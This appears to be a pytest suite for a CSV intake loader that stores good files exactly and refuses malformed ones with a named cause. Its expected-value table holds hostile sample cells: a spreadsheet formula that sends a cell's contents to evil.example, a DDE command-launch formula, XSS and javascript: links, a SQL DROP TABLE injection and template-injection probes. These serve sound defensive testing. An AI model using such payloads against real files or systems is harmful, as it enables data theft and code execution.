"""Every hostile file through `load`: exactly its rows in the warehouse, or nothing of it and words that say what and where."""

import os
import time
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest

from analytics.intake import FileReport, Status, load_file, parse_recipe
from analytics.warehouse import Scope, Warehouse
from tests.intake.recognise.hostile import BIG, CASES, HEADER, ROWS, Outcome

OURS = Scope.of("acme", ["Acme BPO"])
FOREIGN = ("vendor_other", "vendor_mixed")
# Good rows among bad ones: nothing is stored before somebody says so.
ROWS_REFUSED = {
    "shape_ragged_short": 5, "shape_ragged_long": 5, "date_impossible": 4, "date_future": 4, "date_1970": 4, "date_localised": 2,
    "num_negative_calls": 3, "num_accounting_negative": 3, "num_nan_inf": 2, "num_excel_error": 2, "num_overflow": 2, "num_fullwidth": 2,
    "num_csat_out_of_range": 2, "num_sl_out_of_range": 2, "vendor_blank": 5, "inj_xml_pptx": 2,
}  # fmt: skip
LOADED = [name for name, case in CASES.items() if case.outcome is Outcome.RECIPE and name not in (*ROWS_REFUSED, *FOREIGN)]
NOT_LOADED = [name for name in CASES if name not in (*LOADED, *BIG)]


@dataclass(frozen=True)
class Loaded:
    """One case loaded into a warehouse of its own."""

    report: FileReport
    warehouse: Warehouse

    @property
    def said(self) -> str:
        """Everything said of the file."""
        texts = [f"{issue.message} {issue.remedy} line {issue.line} {issue.column}" for issue in self.report.issues]
        return " ".join((*texts, *(question.text for question in self.report.questions)))


def loaded(name: str, folder: Path, before: bytes | None = None, **answers: str) -> Loaded:
    warehouse = Warehouse(folder / "warehouse")
    if before is not None:
        (folder / "before.csv").write_bytes(before)
        assert load_file(warehouse, folder / "before.csv").status is Status.STORED
    file = folder / f"{name}.csv"
    file.write_bytes(CASES[name].as_bytes)
    started = time.perf_counter()
    scope = OURS if name in FOREIGN else None
    report = load_file(warehouse, file, answers={key.replace("__", "."): value for key, value in answers.items()}, scope=scope)
    assert time.perf_counter() - started < 5 or os.getloadavg()[0] > 2
    return Loaded(report, warehouse)


def stored(warehouse: Warehouse) -> list[list[str | None]]:
    """The rows of the warehouse in the form of the file; a share is what the counts of its row come to."""
    if not warehouse.exists:
        return []
    sql = """SELECT strftime(p.period_start, '%Y-%m-%d'), p.vendor, p.site, p.channel, p.contacts_offered, aht.actual,
            p.answered_within_threshold, csat.actual
        FROM performance AS p
        LEFT JOIN scorecard AS aht ON aht.kpi = 'average_handle_time' AND aht.line = p.line AND aht.batch_id = p.batch_id
        LEFT JOIN scorecard AS csat ON csat.kpi = 'csat_mean' AND csat.line = p.line AND csat.batch_id = p.batch_id
        ORDER BY p.line"""
    sql = sql.replace("performance AS p", "performance_rows AS p").replace("scorecard AS", "scorecard_rows AS")
    frame = warehouse.open().select(Scope.everything(), sql)
    return [[None if cell != cell else str(cell) for cell in row] for row in frame.itertuples(index=False)]


def as_stored(rows: list[list[str]]) -> list[list[str | None]]:
    """The rows of the plain file as the warehouse holds them."""
    found: list[list[str | None]] = []
    for *names, calls, aht, level, csat in rows:
        answered = round(Decimal(level) * int(calls))
        found.append([*names, str(int(calls)), str(float(aht)), str(answered), str(float(csat))])
    return found


PLAIN = as_stored(ROWS)


def with_cells(column: str, *cells: str | None) -> list[list[str | None]]:
    """The plain rows with other cells in the first rows of a column."""
    place = HEADER.index(column)
    return [[*row[:place], cell, *row[place + 1 :]] for row, cell in zip(PLAIN, cells, strict=False)] + PLAIN[len(cells) :]


SPECIAL = {
    "enc_cp1252": with_cells("site", "Málaga – Norte €"),
    "enc_latin1_name": with_cells("vendor", *["Téléperf"] * 6),
    "enc_nfd_vendor": with_cells("vendor", *["Téléperf"] * 6),
    "quote_newline_in_cell": with_cells("site", "Manila Tower 2"),
    "quote_doubled": with_cells("site", 'Manila "HQ"'),
    "quote_stray_mid": with_cells("site", 'Man"ila'),
    "date_dmy_clear": with_cells("date", *(f"2026-03-{14 + index // 2}" for index in range(6))),
    "num_null_words": with_cells("csat", None, None),
    "id_leading_zero_site": with_cells("site", *["007"] * 6),
    "period_overlap_correction": as_stored([[*row[:4], str(int(row[4]) + 1), *row[5:]] for row in ROWS[2:4]]),
    "vendor_case_space": with_cells("vendor", *["acme bpo"] * 6),
    "inj_formula": with_cells("site", '=HYPERLINK("http://evil.example/?x="&A1,"Manila")'),
    "inj_formula_all": with_cells("site", "=1+1", "+1+1", "-1+1", "@1+1", "=1+1", "=1+1"),
    "inj_dde": with_cells("site", "=cmd|' /C calc'!A0"),
    "inj_html_script": with_cells("site", "<script>window.__xss=1</script>"),
    "inj_html_img": with_cells("site", "<img src=x onerror=window.__xss=1>"),
    "inj_markdown_link": with_cells("site", "[Manila](javascript:window.__xss=1)"),
    "inj_markdown_image": with_cells("site", "![x](http://127.0.0.1:9/beacon.png)"),
    "inj_value_sql": with_cells("site", "x'; DROP TABLE calls; --"),
    "inj_template": with_cells("site", "{{7*7}} ${7*7} %s {0}"),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", LOADED)
def test_good_files_are_stored_to_the_last_row(name: str, tmp_path: Path) -> None:
    found = loaded(name, tmp_path)
    assert (found.report.status, found.report.rows_rejected, found.report.questions) == (Status.STORED, 0, ())
    assert stored(found.warehouse) == SPECIAL.get(name, PLAIN)
    assert found.report.recipe.startswith("proposed: ") and found.report.issues[-1].level == "info"


@pytest.mark.slow
@pytest.mark.parametrize("name", NOT_LOADED)
def test_of_all_others_nothing_is_stored_and_the_cause_is_named(name: str, tmp_path: Path) -> None:
    found = loaded(name, tmp_path)
    assert not found.warehouse.exists
    case = CASES[name]
    if name in ROWS_REFUSED:
        assert [question.key for question in found.report.questions] == ["refused_rows"]
        assert f"line {ROWS_REFUSED[name]}" in found.said
    elif name in FOREIGN:
        assert found.report.status is Status.REFUSED and "'Globex CX'" in found.said
    elif case.outcome is Outcome.ASKED:
        assert found.report.status is Status.QUESTIONS and case.says in [question.key for question in found.report.questions]
    else:
        assert found.report.status is Status.REFUSED and case.says in found.said


@pytest.mark.slow
@pytest.mark.parametrize("name", BIG)
def test_what_would_fill_the_memory_is_refused(name: str, tmp_path: Path) -> None:
    found = loaded(name, tmp_path)
    assert found.report.status is Status.REFUSED and CASES[name].says in found.said and not found.warehouse.exists


def test_good_rows_are_kept_when_somebody_says_so(tmp_path: Path) -> None:
    found = loaded("date_future", tmp_path, refused_rows="keep")
    assert (found.report.status, found.report.rows_accepted, found.report.rows_rejected) == (Status.STORED, 5, 1)
    assert stored(found.warehouse) == [*PLAIN[:2], *PLAIN[3:]]
    assert loaded("date_1970", tmp_path, refused_rows="stop").report.status is Status.REFUSED


def test_a_stored_recipe_changes_nothing_of_what_is_refused(tmp_path: Path) -> None:
    """The same bytes again are unchanged, a correction replaces two rows, another spelling of the vendor is no new vendor."""
    plain = CASES["enc_utf8"].as_bytes
    found = loaded("dup_same_file_again", tmp_path, plain)
    assert found.report.status is Status.UNCHANGED and stored(found.warehouse) == PLAIN
    folder = tmp_path / "recipes"
    folder.mkdir()
    again = loaded("vendor_case_space", folder, plain)
    assert again.report.status is Status.STORED
    vendors = again.warehouse.open().select(Scope.everything(), "SELECT DISTINCT vendor FROM performance")
    assert list(vendors["vendor"]) == ["Acme BPO"]


@pytest.mark.slow
@pytest.mark.parametrize("name", ["date_future", "num_csat_out_of_range", "enc_utf32", "dup_rows_in_file", "inj_xml_pptx", "sep_semicolon"])
def test_by_a_named_recipe_the_same_rows_are_refused(name: str, tmp_path: Path) -> None:
    proposed = loaded("enc_utf8", tmp_path)
    ((text,),) = proposed.warehouse.open().select(Scope.everything(), "SELECT recipe_text FROM batches").itertuples(index=False)
    file = tmp_path / f"{name}.csv"
    file.write_bytes(CASES[name].as_bytes)
    report = load_file(Warehouse(tmp_path / "named"), file, parse_recipe(text, "named"))
    wanted = {"enc_utf32": (Status.REFUSED, 0), "dup_rows_in_file": (Status.STORED, 4), "sep_semicolon": (Status.STORED, 0)}
    assert (report.status, report.rows_rejected) == wanted.get(name, (Status.STORED, 1))


def test_a_recipe_that_reads_no_row_is_not_taken_for_fitting(tmp_path: Path) -> None:
    """Decimal commas under the headers of a recipe stored for decimal points: recognised anew."""
    warehouse = Warehouse(tmp_path / "warehouse")
    ours = tmp_path / "warehouse" / "recipes"
    ours.mkdir(parents=True)
    plain = loaded("enc_utf8", tmp_path / "plain" if (tmp_path / "plain").mkdir() is None else tmp_path)
    ((text,),) = plain.warehouse.open().select(Scope.everything(), "SELECT recipe_text FROM batches").itertuples(index=False)
    (ours / "points.toml").write_text(text, encoding="utf-8")
    file = tmp_path / "commas.csv"
    file.write_bytes(CASES["sep_semicolon_decimal_comma"].as_bytes)
    report = load_file(warehouse, file)
    assert (report.status, report.recipe, report.rows_rejected) == (Status.STORED, "proposed: commas", 0)
    assert stored(warehouse) == PLAIN


def test_a_table_too_large_is_refused_by_its_first_lines(tmp_path: Path) -> None:
    """1.2 MB of totals where 1 MB is read: nobody waits for the rest, whatever stands in it."""
    folder = tmp_path / "warehouse"
    folder.mkdir()
    (folder / "settings.toml").write_text("largest_table_mb = 1\n", encoding="utf-8")
    file = tmp_path / "large.csv"
    rows = "".join(f"2026-03-02,Acme BPO,Site {number},{number}\n" for number in range(40_000))
    file.write_bytes(f"Date,Vendor,Site,Calls\n{rows}".encode() + b"\x00 no text at all")
    report = load_file(Warehouse(folder), file)
    assert report.status is Status.REFUSED and "is read up to 1 MB" in report.issues[0].message
